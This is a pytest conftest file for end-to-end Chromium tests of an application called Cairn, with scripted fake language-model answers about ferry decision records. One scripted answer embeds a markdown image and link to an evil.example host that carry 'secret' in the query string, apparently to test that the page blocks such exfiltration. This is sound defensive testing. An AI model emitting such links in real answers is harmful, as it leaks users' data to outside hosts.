"""A real Cairn, a real Chromium, and a language model that says what a test tells it to."""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, expect, sync_playwright
from support.ports import free_port
from support.processes import Watched
from support.providers.scenarios import Asked, Scenario
from support.providers.server import KEY, TestProviders, run_test_providers

from e2e.site import CHROMIUM, FLAGS, REPOSITORY, Site

DESKTOP = (1440, 900)
expect.set_options(timeout=20_000)


def _needed() -> str | None:
    """Why these tests cannot run here, or None."""
    if CHROMIUM is None:
        return "Chromium is missing. On Debian: apt-get install chromium"
    if not (REPOSITORY / "web" / "dist" / "index.html").is_file():
        return "The web pages are not built. Run `make web`"
    return None


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    reason = _needed()
    for item in items:
        if reason is not None and "e2e" in item.path.parts:
            item.add_marker(pytest.mark.skip(reason=reason))


def _number_of(asked: Asked, words: str) -> int:
    """The number of the passage that holds these words; 1 where none does."""
    passages = re.findall(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', asked.text, re.DOTALL)
    return next((int(number) for number, text in passages if words in " ".join(text.split())), 1)


def harbour_answer(asked: Asked) -> list[str]:
    """Answer "why one manifest?" from the records; the last piece comes only when a test waits for it."""
    too_many = _number_of(asked, "nine people more")
    only_place = _number_of(asked, "the only place where a seat is taken")
    rare = _number_of(asked, "rare enough to ignore")
    text = (
        "Because every channel sold from a list of its own, and the lists were merged too late: the *Grey Heron* "
        f"sailed with nine people more than her certificate allows [{too_many}]. Since then the manifest is “the only "
        f"place where a seat is taken” [{only_place}], and a sale without its answer is no sale.\n\n"
        "The earlier record, no longer in force, accepted that a seat is sold twice between two merges because it was "
        f"“rare enough to ignore” [{rare}]."
    )
    return [*re.split(r"(?<= )", text), " What the manifest needs is two quays."]


def made_up_answer(asked: Asked) -> list[str]:
    """Answer with a figure and a name of nowhere, and with a link and a picture that would carry words away."""
    number = _number_of(asked, "the only place where a seat is taken")
    text = (
        f"The manifest is “the only place where a seat is taken” [{number}]. It holds 4711 seats, as in Zurich. "
        f"See ![a map](https://evil.example/map.png?q=secret) and [more](https://evil.example/?q=secret) [{number}]."
    )
    return re.split(r"(?<= )", text)


def going_on_answer(asked: Asked) -> list[str]:
    """Answer as `harbour-waits` does, and go on with it to its end when the server that asked is another."""
    begun = [text for role, text in asked.messages if role == "assistant"]
    if not begun:
        return ["".join(harbour_answer(asked)[:-1]), " More."]
    anchor = asked.messages[-1][1].rpartition("go on: ")[2]
    assert begun[-1].endswith(anchor)
    return [f"{anchor} What the manifest needs is two quays."]


@pytest.fixture(scope="session")
def providers() -> Iterator[TestProviders]:
    """The test providers, in a thread with a loop of its own."""
    import asyncio  # noqa: PLC0415 - only this thread runs a loop.

    ready, loop = threading.Event(), asyncio.new_event_loop()
    found: list[TestProviders] = []
    stop = asyncio.Event()

    async def serve() -> None:
        async with run_test_providers() as servers:
            found.append(servers)
            ready.set()
            await stop.wait()

    thread = threading.Thread(target=lambda: loop.run_until_complete(serve()), daemon=True)
    thread.start()
    assert ready.wait(20)
    servers = found[0]
    servers.scenarios["harbour"] = Scenario(answer=harbour_answer)
    servers.scenarios["makes-up"] = Scenario(answer=made_up_answer)
    servers.scenarios["harbour-waits"] = Scenario(
        answer=lambda asked: ["".join(harbour_answer(asked)[:-1]), " More."], gap_s=3_600
    )
    servers.scenarios["harbour-goes-on"] = Scenario(answer=going_on_answer, gap_s=3_600)
    yield servers
    loop.call_soon_threadsafe(stop.set)
    thread.join(20)
    loop.close()


def _run(home: Path, *arguments: str) -> str:
    environment = {
        **os.environ,
        "CAIRN_HOME": str(home),
        "LOGNAME": "Mara Solheim",
        "CAIRN_PORT": (home / "port").read_text(),
    }
    # Measuring coverage makes a server half as fast, and other tests cover what it runs: here it is as people have it.
    environment.pop("COVERAGE_PROCESS_CONFIG", None)
    done = subprocess.run(  # noqa: S603 - this very program.
        [sys.executable, *arguments], env=environment, capture_output=True, text=True, timeout=110, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def _cairn(home: Path, *arguments: str) -> str:
    return _run(home, "-c", "from cairn.entrypoints.cli import main; main()", *arguments)


@pytest.fixture(scope="session")
def site(providers: TestProviders) -> Iterator[Site]:
    """Cairn with the records of the Tidewater ferries, all of them findable."""
    # pytest's own folders are closed to the account that runs Postgres for root.
    home = Path(tempfile.mkdtemp(prefix="cairn-test-"))
    home.chmod(0o711)
    (home / "port").write_text(str(free_port()))
    (home / "sample-offered").touch()
    _cairn(home, "up", "--detach")
    try:
        status: dict[str, Any] = json.loads(_cairn(home, "status", "--json"))
        site = Site(status["url"], home=home)
        site.import_records("tidewater", "tidewater/docs/decisions")
        site.wait_until_findable()
        site.add_provider(
            "harbour",
            providers.openai_url,
            KEY,
            ["harbour", "harbour-waits", "harbour-goes-on", "endless", "cut", "makes-up"],
        )
        yield site
    finally:
        _cairn(home, "down")
        shutil.rmtree(home, ignore_errors=True)


@pytest.fixture
def restart(site: Site) -> Callable[[], None]:
    """Stop Cairn and start it again, at the same address and with the same data."""

    def down_and_up() -> None:
        _cairn(site.home, "down")
        _cairn(site.home, "up", "--detach")

    return down_and_up


@pytest.fixture
def kill_server(site: Site) -> Callable[[], None]:
    """End the server process without a word; `cairn up` starts another."""

    def kill() -> None:
        state: dict[str, Any] = json.loads((site.home / "run" / "state.json").read_text())
        os.kill(state["pids"]["server"], signal.SIGKILL)

    return kill


@pytest.fixture
def kill_everything(site: Site) -> Callable[[], None]:
    """End all of Cairn without a word, its database too, and start it again."""

    def kill_and_up() -> None:
        state: dict[str, Any] = json.loads((site.home / "run" / "state.json").read_text())
        killed = [Watched(pid) for pid in state["pids"].values()]
        os.kill(state["pids"]["supervisor"], signal.SIGKILL)
        for process in killed:
            process.wait_until_dead(30)
        _cairn(site.home, "up", "--detach")

    return kill_and_up


@pytest.fixture(scope="session")
def reviewer(site: Site) -> Site:
    """The same Cairn as another person meets it."""
    return replace(site, token=_run(site.home, str(Path(__file__).parent / "people.py"), "Jonas Reyne", "reviewer"))


@pytest.fixture(scope="session")
def author(site: Site) -> Site:
    """The same Cairn as one meets it who may write and not accept."""
    return replace(site, token=_run(site.home, str(Path(__file__).parent / "people.py"), "Ada Finch", "author"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # Of this module only: while it is open, the thread counts as one that runs a loop.
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def open_page(browser: Browser, site: Site) -> Iterator[Callable[..., Page]]:
    """Open pages of any size and theme. A message on the console or a script that fails fails the test."""
    contexts: list[BrowserContext] = []
    complaints: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        # The browser names every answer that is a refusal; tests that provoke one look at what the page makes of it.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            complaints.append(message.text)

    def open_one(
        path: str,
        *,
        size: Sequence[int] = DESKTOP,
        dark: bool = False,
        touch: bool = False,
        person: Site = site,
        locale: str = "en-GB",
    ) -> Page:
        context = browser.new_context(
            viewport={"width": size[0], "height": size[1]},
            color_scheme="dark" if dark else "light",
            base_url=site.url,
            has_touch=touch,
            reduced_motion="reduce",
            locale=locale,
            extra_http_headers=person.credentials,
        )
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", hear)
        page.goto(path)
        return page

    yield open_one
    for context in contexts:
        context.close()
    assert complaints == []
